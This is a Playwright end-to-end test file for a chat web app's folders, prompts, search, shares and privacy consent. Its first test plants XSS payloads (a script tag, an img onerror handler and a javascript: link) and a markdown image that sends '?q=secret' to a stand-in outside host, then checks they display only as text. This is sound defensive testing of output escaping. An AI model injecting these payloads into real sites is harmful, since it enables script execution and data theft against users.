"""Folders, prompts, search, shares and privacy as people use them; what they write is text wherever it is shown."""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from tests.web.harness import House, Person, Tab
from tests.web.things import asked

Visit = Callable[..., Tab]
HOSTILE = "<img src=x onerror=\"window.hit='yes'\"><script>window.hit='yes'</script>"
LEAK = "![pixel](https://elsewhere.example/?q=secret) [link](javascript:window.hit='yes') quokka"


def is_only_text(tab: Tab) -> None:
    """Nothing that somebody wrote became a part of the page. A request to elsewhere fails the test by itself."""
    assert tab.page.evaluate("() => window.hit ?? null") is None
    assert tab.page.locator("main img, main script, main iframe, main [onerror]").count() == 0
    assert tab.page.locator("main a[href^='javascript:']").count() == 0


def test_what_people_write_is_text_wherever_it_is_shown(
    visit: Visit, house: House, owner: Person, member: Person
) -> None:
    folder = owner.post("/v1/tokenry/folders", name=HOSTILE, instructions=HOSTILE)["id"]
    owner.post(
        "/v1/tokenry/prompts", name="hostile", title=HOSTILE, text=f"{HOSTILE} {{{{{HOSTILE[:40]}}}}}", shared=True
    )
    chat = owner.post("/v1/tokenry/chats", title=HOSTILE, folder_id=folder, project_id=house.project)["id"]
    asked(owner, chat, f"{HOSTILE} {LEAK} [[text={LEAK}]]")
    share = owner.post(f"/v1/tokenry/chats/{chat}/shares", message_id=None)["id"]
    tab = visit(owner, "/folders")
    for path in ("/folders", f"/folders/{folder}", "/prompts", "/search?q=quokka", "/shared", f"/shared/{share}"):
        tab.go(path)
        expect(tab.page.get_by_text("onerror").first).to_be_visible()
        is_only_text(tab)
    tab.go(f"/shared/{share}")
    expect(tab.page.get_by_text("quokka").last).to_be_visible()
    other = visit(member, f"/shared/{share}")
    expect(other.page.get_by_role("heading", level=1)).to_have_text(HOSTILE)
    is_only_text(other)
    other.go("/prompts")
    is_only_text(other)


def test_a_folder_a_prompt_and_what_was_said_are_found_again(visit: Visit, owner: Person) -> None:
    page = visit(owner, "/folders").page
    page.get_by_role("button", name="New folder").first.click()
    page.get_by_label("Name").fill("Moon and sea")
    page.get_by_role("dialog").get_by_role("button", name="New folder").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Moon and sea")
    page.get_by_label("Instructions").fill("Be exact.")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("count from the next answer on")).to_be_visible()
    tab = visit(owner, "/prompts")
    page = tab.page
    page.get_by_role("button", name="New prompt").click()
    page.get_by_label("Title").fill("Ebb & flow")
    expect(page.get_by_label("Name")).to_have_value("ebb-flow")
    page.get_by_label("Text").fill("When is the {{tide}} in {{where}}?")
    expect(page.get_by_text("Asks for 2 things: tide and where")).to_be_visible()
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("/ebb-flow", exact=True)).to_be_visible()
    project = owner.get("/v1/tokenry/me/training")["projects"][0]["project_id"]
    chat = owner.post("/v1/tokenry/chats", title="Neap", project_id=project)["id"]
    asked(owner, chat, "The heliotrope stands in the harbour.")
    tab.go("/search")
    page.get_by_role("searchbox").fill("heliot")
    expect(page.locator("main mark").first).to_have_text("heliotrope")
    page.locator("main").get_by_role("link", name="Neap").first.click()
    page.wait_for_url(f"**/chat/{chat}?message=*")


def test_a_share_is_withdrawn_and_consent_is_given_and_taken_back(
    visit: Visit, house: House, owner: Person, member: Person
) -> None:
    chat = owner.post("/v1/tokenry/chats", title="Spring tide", project_id=house.project)["id"]
    asked(owner, chat, "Why?")
    share = owner.post(f"/v1/tokenry/chats/{chat}/shares", message_id=None)["id"]
    reader = visit(member, f"/shared/{share}")
    expect(reader.page.get_by_role("heading", level=1)).to_have_text("Spring tide")
    expect(reader.page.get_by_role("button", name="Withdraw")).to_have_count(0)
    page = visit(owner, f"/shared/{share}").page
    page.get_by_role("button", name="Withdraw").click()
    page.get_by_role("dialog").get_by_role("button", name="Withdraw").click()
    page.wait_for_url("**/shared")
    reader.page.reload()
    expect(reader.page.get_by_text("There is nothing to see here")).to_be_visible()
    reader.complaints[:] = [words for words in reader.complaints if "404" not in words]
    tab = visit(member, "/me/privacy")
    switch = tab.page.get_by_role("switch").first
    expect(switch).not_to_be_checked()
    switch.click()
    expect(tab.page.get_by_role("dialog")).to_contain_text("I can withdraw at any time")
    tab.page.get_by_role("button", name="Agree").click()
    expect(switch).to_be_checked()
    switch.click()
    expect(switch).not_to_be_checked()
    tab.page.get_by_text("What you agreed to, and what left").click()
    expect(tab.page.get_by_text("Withdrawn").first).to_be_visible()
    tab.settled()
    assert tab.wrong() == []
